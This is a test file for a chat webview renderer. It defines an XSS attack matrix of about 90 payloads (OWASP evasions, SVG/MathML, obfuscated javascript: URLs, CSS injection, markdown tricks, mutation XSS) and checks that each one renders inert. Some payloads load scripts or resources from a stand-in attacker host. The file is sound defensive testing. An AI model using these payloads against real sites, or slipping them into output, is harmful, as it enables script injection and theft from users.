// The attack matrix's XSS part: each payload below arrives as model output, in a turn of its own, in the
// real webview (production HTML template and CSP, built bundle) in Chromium; once whole and once streamed
// in small deltas. None may run script (a `__hit` sentinel or a dialog), request anything but the page's
// own files, navigate the webview, or leave an event handler or a script-capable URL in the DOM; the plain
// text of each payload stays readable. CSP violation reports are recorded and listed, not failed: a
// blocked attempt is fine as long as nothing ran or loaded. xss.test.ts holds the renderer's own smaller set.
import * as assert from 'node:assert/strict';
import type { Turn, WebviewToHost } from '../../src/protocol';
import { random, randomSplit } from './answers';
import { WebviewHarness, emptyState, initMessage, type WebviewPage } from './harness';

interface Payload {
  /** The group in the attack matrix. */
  group: 'owasp' | 'svg/mathml' | 'url schemes' | 'css' | 'markdown' | 'code' | 'embedding' | 'mxss';
  text: string;
  /** Text the reader must still see (a link's text, a code sample as written). */
  readable?: string;
}

const PAYLOADS: Payload[] = [
  // OWASP filter-evasion classics.
  { group: 'owasp', text: `<SCRIPT SRC=https://evil.invalid/xss.js></SCRIPT>` },
  { group: 'owasp', text: `<IMG SRC="javascript:__hit('img-js')">` },
  { group: 'owasp', text: `<IMG SRC=JaVaScRiPt:__hit('img-case')>` },
  { group: 'owasp', text: "<IMG SRC=`javascript:__hit('img-grave')`>" },
  { group: 'owasp', text: `<IMG """><SCRIPT>__hit('malformed-img')</SCRIPT>">` },
  { group: 'owasp', text: `<IMG SRC=# onmouseover="__hit('img-mouseover')">` },
  { group: 'owasp', text: `<IMG SRC=/ onerror="__hit('img-onerror-slash')"></img>` },
  { group: 'owasp', text: `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#95;&#95;&#104;&#105;&#116;&#40;&#49;&#41;>` },
  { group: 'owasp', text: `<IMG SRC="jav\tascript:__hit('tab')">` },
  { group: 'owasp', text: `<IMG SRC="jav&#x0A;ascript:__hit('newline')">` },
  { group: 'owasp', text: `<IMG SRC=" &#14;  javascript:__hit('spaces-meta')">` },
  { group: 'owasp', text: `<SCRIPT/XSS SRC="https://evil.invalid/xss.js"></SCRIPT>` },
  { group: 'owasp', text: "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=__hit('body-chars')>" },
  { group: 'owasp', text: `<<SCRIPT>__hit('double-open');//<</SCRIPT>` },
  { group: 'owasp', text: `<SCRIPT SRC=https://evil.invalid/xss.js?< B >` },
  { group: 'owasp', text: `</TITLE><SCRIPT>__hit('title-close')</SCRIPT>` },
  { group: 'owasp', text: `<INPUT TYPE="IMAGE" SRC="javascript:__hit('input-image')">` },
  { group: 'owasp', text: `<BR SIZE="&{__hit('br-entity')}">` },
  { group: 'owasp', text: `<IMG DYNSRC="javascript:__hit('dynsrc')" LOWSRC="javascript:__hit('lowsrc')">` },
  { group: 'owasp', text: `<img src=x onerror="&#95;&#95;hit('entity-handler')">` },
  { group: 'owasp', text: `<scr<script>ipt>__hit('nested-script')</scr</script>ipt>` },
  { group: 'owasp', text: `"><img src=x onerror=__hit('attr-break')>` },
  { group: 'owasp', text: `<div onclick="__hit('div-click')" tabindex=0 autofocus onfocus="__hit('div-focus')">focus div</div>`, readable: 'focus div' },
  { group: 'owasp', text: `<a href="#" onclick="__hit('hash-link')">hash link</a>`, readable: 'hash link' },
  // SVG and MathML.
  { group: 'svg/mathml', text: `<svg/onload=__hit('svg-slash-onload')>` },
  { group: 'svg/mathml', text: `<svg><animate onbegin=__hit('svg-animate') attributeName=x dur=1s>` },
  { group: 'svg/mathml', text: `<svg><a><animate attributeName="href" values="javascript:__hit('svg-animate-href')"/><text x="20" y="20">svg animated link</text></a></svg>` },
  { group: 'svg/mathml', text: `<svg><foreignObject><img src=x onerror=__hit('foreign')></foreignObject></svg>` },
  { group: 'svg/mathml', text: `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='parent.__hit(1)'/&gt;&lt;/svg&gt;#x"/></svg>` },
  { group: 'svg/mathml', text: `<svg><a href="javascript:__hit('svg2-a')"><circle r="40"/></a></svg>` },
  { group: 'svg/mathml', text: `<math href="javascript:__hit('math-href')">math link</math>` },
  { group: 'svg/mathml', text: `<math><maction actiontype="statusline#" xlink:href="javascript:__hit('maction')">maction</maction></math>` },
  // javascript:, data: and vbscript: URLs, obfuscated.
  { group: 'url schemes', text: `<a href="&#1;javascript:__hit('ctrl-char')">control char link</a>`, readable: 'control char link' },
  { group: 'url schemes', text: `<a href="java\u0000script:__hit('null-byte')">null byte link</a>`, readable: 'null byte link' },
  { group: 'url schemes', text: `<a href="javascript&colon;__hit('colon-entity')">colon entity link</a>`, readable: 'colon entity link' },
  { group: 'url schemes', text: `<a href="javas&#99;ript:__hit('partial-entity')">partial entity link</a>`, readable: 'partial entity link' },
  { group: 'url schemes', text: `<a href="jav&#x09;ascript:__hit('tab-entity')">tab entity link</a>`, readable: 'tab entity link' },
  { group: 'url schemes', text: `<a href="  JAVASCRIPT:__hit('upper-space')">upper space link</a>`, readable: 'upper space link' },
  { group: 'url schemes', text: `<a href="data:text/html,<script>parent.__hit('data-html')</script>">data html link</a>`, readable: 'data html link' },
  { group: 'url schemes', text: `<a href="vb&#115;cript:msgbox(1)">vbscript entity link</a>`, readable: 'vbscript entity link' },
  { group: 'url schemes', text: `<a href="VBSCRIPT:msgbox(1)">vbscript upper link</a>`, readable: 'vbscript upper link' },
  { group: 'url schemes', text: `<img src="data:text/html,<script>parent.__hit('img-data-html')</script>" alt="data html image">` },
  { group: 'url schemes', text: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__hit(2)'/>" alt="svg data image">` },
  // CSS injection.
  { group: 'css', text: `<STYLE>li {list-style-image: url("javascript:__hit('style-list')");}</STYLE><UL><LI>list item</UL>`, readable: 'list item' },
  { group: 'css', text: `<style>@import 'https://evil.invalid/a.css';</style>` },
  { group: 'css', text: `<style>*{background:url("{ORIGIN}/leak/style-tag-url")}</style>` },
  { group: 'css', text: `<div style="width: expression(__hit('expression'))">expression text</div>`, readable: 'expression text' },
  { group: 'css', text: `<p style="background-image:url(javascript:__hit('style-js'))">style url js</p>`, readable: 'style url js' },
  { group: 'css', text: `<p style="background:url({ORIGIN}/leak/style-attr-url)">style url origin</p>`, readable: 'style url origin' },
  { group: 'css', text: `<p style="behavior:url(https://evil.invalid/x.htc)">behavior text</p>`, readable: 'behavior text' },
  { group: 'css', text: `<LINK REL="stylesheet" HREF="javascript:__hit('link-js')">` },
  { group: 'css', text: `<p style="position:fixed;inset:0;z-index:9999;background:white">overlay text</p>`, readable: 'overlay text' },
  // Markdown link and image tricks.
  { group: 'markdown', text: `[reference link][evil]\n\n[evil]: javascript:__hit('md-ref')`, readable: 'reference link' },
  { group: 'markdown', text: `[ref with title][t]\n\n[t]: <javascript:__hit('md-ref-angle')> "title"`, readable: 'ref with title' },
  { group: 'markdown', text: `<JAVASCRIPT:__hit('autolink-upper')>` },
  { group: 'markdown', text: `<data:text/html,<script>__hit('autolink-data')</script>>` },
  { group: 'markdown', text: `[nested [brackets](javascript:__hit('nested-inner'))](https://example.com/outer)`, readable: 'brackets' },
  { group: 'markdown', text: `![img quote](x" onerror="__hit('md-img-quote'))` },
  { group: 'markdown', text: `![md image js](javascript:__hit('md-img-js'))` },
  { group: 'markdown', text: `[![image link](https://evil.invalid/pixel.png)](javascript:__hit('img-in-link'))` },
  { group: 'markdown', text: `[spaced link](  javascript:__hit('md-spaced')  )`, readable: 'spaced' },
  { group: 'markdown', text: `[decimal entity link](&#106;avascript:__hit('md-dec-entity'))`, readable: 'decimal entity link' },
  { group: 'markdown', text: `[vbscript md link](vbscript:msgbox(1))`, readable: 'vbscript md link' },
  { group: 'markdown', text: `[data svg link](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9faGl0KDMpIi8+)`, readable: 'data svg link' },
  { group: 'markdown', text: `![remote html-free image](https://evil.invalid/tracker.gif)` },
  { group: 'markdown', text: `[ping link](https://example.com/ok "<img src=x onerror=__hit('md-title')>")`, readable: 'ping link' },
  // HTML in code fences and inline code: shown as written, never parsed.
  { group: 'code', text: "```\n<svg onload=__hit('fence-svg')>\n```", readable: "<svg onload=__hit('fence-svg')>" },
  { group: 'code', text: "~~~js\n</code></pre><script>__hit('fence-break')</script>\n~~~", readable: "</code></pre><script>__hit('fence-break')</script>" },
  { group: 'code', text: "`</code><img src=x onerror=__hit('code-break')>`", readable: "</code><img src=x onerror=__hit('code-break')>" },
  { group: 'code', text: "Indented:\n\n    <img src=x onerror=__hit('indented')>", readable: "<img src=x onerror=__hit('indented')>" },
  { group: 'code', text: "```html\n<a href=\"javascript:__hit('fence-link')\">fenced link</a>\n```", readable: `<a href="javascript:__hit('fence-link')">fenced link</a>` },
  // Frames, objects, embeds, base, meta refresh, forms.
  { group: 'embedding', text: `<iframe src="https://evil.invalid/frame"></iframe>` },
  { group: 'embedding', text: `<object type="text/x-scriptlet" data="https://evil.invalid/scriptlet"></object>` },
  { group: 'embedding', text: `<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9faGl0KDQpIi8+">` },
  { group: 'embedding', text: `<base href="javascript:__hit('base')//">[relative link](relative/path)`, readable: 'relative link' },
  { group: 'embedding', text: `<meta http-equiv="refresh" content="0; url=https://evil.invalid/">` },
  { group: 'embedding', text: `<form action="javascript:__hit('form-action')"><input type="submit" value="submit me"></form>` },
  { group: 'embedding', text: `<button formaction="javascript:__hit('formaction')">formaction button</button>` },
  { group: 'embedding', text: `<isindex action="javascript:__hit('isindex')" type=image>` },
  { group: 'embedding', text: `<img src="https://evil.invalid/remote.png" alt="remote html image">` },
  { group: 'embedding', text: `<video poster="https://evil.invalid/poster.png"></video>` },
  { group: 'embedding', text: `<link rel="prefetch" href="https://evil.invalid/prefetch"><link rel="preload" as="script" href="https://evil.invalid/preload.js">` },
  { group: 'embedding', text: `<a href="https://example.com/ok" ping="https://evil.invalid/ping" target="_top">ping attribute link</a>`, readable: 'ping attribute link' },
  { group: 'embedding', text: `<div class="code-toolbar"><div class="code-actions"><button class="code-action" data-code-action="apply">forged apply</button></div></div>` },
  { group: 'embedding', text: `<frameset onload="__hit('frameset')"><frame src="javascript:__hit('frame')"></frameset>` },
  // Template, noscript and mutation XSS.
  { group: 'mxss', text: `<template><img src=x onerror=__hit('template-img')></template>` },
  { group: 'mxss', text: `<noscript><style></noscript><img src=x onerror=__hit('noscript-style')></style></noscript>` },
  { group: 'mxss', text: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=__hit('mxss-form') src>">` },
  { group: 'mxss', text: `<svg></p><style><a id="</style><img src=1 onerror=__hit('mxss-svg-p')>">` },
  { group: 'mxss', text: `<textarea><img src=x onerror=__hit('textarea')></textarea>` },
  { group: 'mxss', text: `<title><img src=x onerror=__hit('title-img')></title>` },
  { group: 'mxss', text: `<xmp><img src=x onerror=__hit('xmp')></xmp>` },
  { group: 'mxss', text: `<!--<img src="--><img src=x onerror=__hit('comment')//">` },
  { group: 'mxss', text: `<![CDATA[><img src=x onerror=__hit('cdata')>]]>` },
  { group: 'mxss', text: `<select><template><style><img src=x onerror=__hit('select-template')></style></template></select>` },
  { group: 'mxss', text: `<plaintext><img src=x onerror=__hit('plaintext')>` },
];

/** Attributes that can carry a URL a browser would load or follow. */
const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'ping', 'lowsrc', 'dynsrc'];

interface TurnFindings {
  id: string;
  handlers: string[];
  scriptUrls: string[];
  dangerous: string[];
  text: string;
}

const DANGEROUS = 'script, iframe, frame, frameset, object, embed, base, meta, link, style, form, input, button, textarea, select, template, noscript, svg, math, video, audio, isindex, plaintext, xmp';

async function inspect(webview: WebviewPage, ids: string[]): Promise<TurnFindings[]> {
  return webview.page.evaluate(
    ({ ids, urlAttributes, dangerous }) =>
      ids.map((id) => {
        const root = document.querySelector(`[data-turn-id="${id}"] .answer`);
        if (!root) return { id, handlers: ['(turn missing)'], scriptUrls: [], dangerous: [], text: '' };
        // Rendered as on screen: innerText leaves out a turn that content-visibility skips while off screen
        // (a turn, or the group of turns it is in).
        for (const skipped of [root.closest('.turn'), root.closest('.turn-group')]) {
          (skipped as HTMLElement | null)?.style.setProperty('content-visibility', 'visible');
        }
        const all = [...root.querySelectorAll('*')];
        // What a browser would act on: entities decoded, control characters and whitespace ignored.
        const scheme = (value: string) => [...value].filter((c) => c.charCodeAt(0) > 0x20 && (c.charCodeAt(0) < 0x7f || c.charCodeAt(0) > 0x9f)).join('').toLowerCase();
        return {
          id,
          handlers: all.flatMap((el) => el.getAttributeNames().filter((n) => n.toLowerCase().startsWith('on')).map((n) => `${el.localName}[${n}]`)),
          scriptUrls: all.flatMap((el) =>
            urlAttributes
              .map((name) => el.getAttribute(name))
              .filter((value): value is string => value !== null && /^(javascript|vbscript|data|livescript):/.test(scheme(value)) && !/^data:image\/(png|gif|jpe?g|webp);/.test(scheme(value)))
              .map((value) => `${el.localName}: ${value}`),
          ),
          // The renderer's own code-block buttons (three per block) are the only buttons; a forged toolbar adds more.
          dangerous: [
            ...[...root.querySelectorAll(dangerous)].filter((el) => !(el.localName === 'button' && el.closest('.code-toolbar'))).map((el) => el.localName),
            ...(root.querySelectorAll('.code-toolbar button').length !== 3 * root.querySelectorAll('pre').length ? ['forged code toolbar'] : []),
          ],
          text: (root as HTMLElement).innerText ?? '',
        };
      }),
    { ids, urlAttributes: URL_ATTRIBUTES, dangerous: DANGEROUS },
  );
}

/** An address the CSP blocks, loaded by the test itself after the pokes. */
const CANARY = 'http://127.0.0.9/blocked-canary';

/** Hovers, focuses and clicks every element of every answer (in page, so all 90 answers take a moment), then really clicks each link. */
async function poke(webview: WebviewPage): Promise<void> {
  await webview.page.evaluate(() => {
    for (const el of document.querySelectorAll<HTMLElement>('.answer *')) {
      for (const type of ['pointerover', 'pointerenter', 'mouseover', 'mouseenter', 'focus', 'focusin', 'animationstart', 'toggle']) {
        el.dispatchEvent(new Event(type, { bubbles: true }));
      }
      el.focus?.();
      el.click?.();
    }
  });
  const links = webview.page.locator('.answer a');
  for (let i = 0; i < (await links.count()); i++) {
    await links.nth(i).click({ timeout: 1000 }).catch(() => undefined);
  }
  await webview.settle();
  // A load of the test's own that the CSP blocks: its report is queued after those of anything the pokes
  // started, so once it arrives whatever a payload could have set off has had its turn.
  await webview.page.evaluate(
    (canary) =>
      new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => e.blockedURI === canary && resolve());
        new Image().src = canary;
      }),
    CANARY,
  );
  await webview.settle();
}

function withOrigin(text: string, origin: string): string {
  return text.replaceAll('{ORIGIN}', origin);
}

async function assertNothingEscaped(webview: WebviewPage, pageUrl: string): Promise<string[]> {
  const ids = PAYLOADS.map((_, i) => `a${i}`);
  const found = await inspect(webview, ids);
  const problems: string[] = [];
  found.forEach((f, i) => {
    const label = `#${i} ${PAYLOADS[i].group} ${JSON.stringify(PAYLOADS[i].text.slice(0, 60))}`;
    if (f.handlers.length) problems.push(`${label}: handlers ${f.handlers.join(', ')}`);
    if (f.scriptUrls.length) problems.push(`${label}: script URLs ${f.scriptUrls.join(', ')}`);
    if (f.dangerous.length) problems.push(`${label}: elements ${f.dangerous.join(', ')}`);
    const readable = PAYLOADS[i].readable;
    if (readable && !f.text.includes(readable)) problems.push(`${label}: "${readable}" is not readable in ${JSON.stringify(f.text.slice(0, 120))}`);
  });
  assert.deepEqual(problems, [], 'every payload is inert and readable');
  const hits = await webview.page.evaluate(() => (window as unknown as { __hits: string[] }).__hits);
  assert.deepEqual(hits, [], 'no payload script ran');
  assert.deepEqual(webview.dialogs, [], 'no dialog opened');
  assert.deepEqual(webview.foreignRequests().filter((url) => url !== CANARY), [], 'nothing but the page\'s own files was requested');
  assert.equal(webview.page.url(), pageUrl, 'the webview did not navigate');
  assert.deepEqual(webview.errors, [], 'no page error');
  const opened = (await webview.posted()).filter((m): m is Extract<WebviewToHost, { type: 'openLink' }> => m.type === 'openLink');
  for (const message of opened) {
    assert.match(message.href, /^(https?:|mailto:)/i, 'only web links are handed to the host to open');
  }
  return (await webview.page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).filter((report) => !report.endsWith(CANARY));
}

describe('webview: the XSS attack matrix', function () {
  let harness: WebviewHarness;

  before(async function () {
    harness = await WebviewHarness.start();
  });
  after(async function () {
    await harness?.close();
  });

  it(`has at least 60 payloads in every group (${PAYLOADS.length})`, function () {
    assert.ok(PAYLOADS.length >= 60);
    assert.equal(new Set(PAYLOADS.map((p) => p.text)).size, PAYLOADS.length, 'no duplicates');
    assert.deepEqual([...new Set(PAYLOADS.map((p) => p.group))].sort(), ['code', 'css', 'embedding', 'markdown', 'mxss', 'owasp', 'svg/mathml', 'url schemes']);
  });

  it('renders each payload as a whole answer: nothing runs, loads or navigates, the text stays', async function () {
    const webview = await harness.open();
    const pageUrl = webview.page.url();
    const turns: Turn[] = PAYLOADS.flatMap((p, i) => [
      { id: `u${i}`, role: 'user' as const, text: `payload ${i}`, createdAt: 2 * i },
      { id: `a${i}`, role: 'assistant' as const, text: withOrigin(p.text, webview.origin), status: 'done' as const, createdAt: 2 * i + 1 },
    ]);
    await webview.send(initMessage(emptyState(turns)));
    await webview.settle();
    await poke(webview);
    const csp = await assertNothingEscaped(webview, pageUrl);
    console.log(`      ${PAYLOADS.length} payloads inert; ${csp.length} CSP violation report(s), none of which let anything run or load`);
  });

  it('renders each payload streamed in small random deltas just as harmlessly', async function () {
    const webview = await harness.open();
    const pageUrl = webview.page.url();
    const rand = random(61);
    const turns: Turn[] = PAYLOADS.flatMap((_, i) => [
      { id: `u${i}`, role: 'user' as const, text: `payload ${i}`, createdAt: 2 * i },
      { id: `a${i}`, role: 'assistant' as const, text: '', status: 'streaming' as const, createdAt: 2 * i + 1 },
    ]);
    await webview.send(initMessage(emptyState(turns, true)));
    await webview.settle();
    const deltas = PAYLOADS.flatMap((p, i) => randomSplit(withOrigin(p.text, webview.origin), rand).map((text) => ({ type: 'delta' as const, turnId: `a${i}`, text })));
    for (let i = 0; i < deltas.length; i += 40) {
      await webview.send(...deltas.slice(i, i + 40));
      if (i % 400 === 0) await webview.settle();
    }
    await webview.send(...PAYLOADS.map((_, i) => ({ type: 'turnFinished' as const, turnId: `a${i}`, status: 'done' as const })));
    await webview.settle();
    await poke(webview);
    await assertNothingEscaped(webview, pageUrl);
  });
});
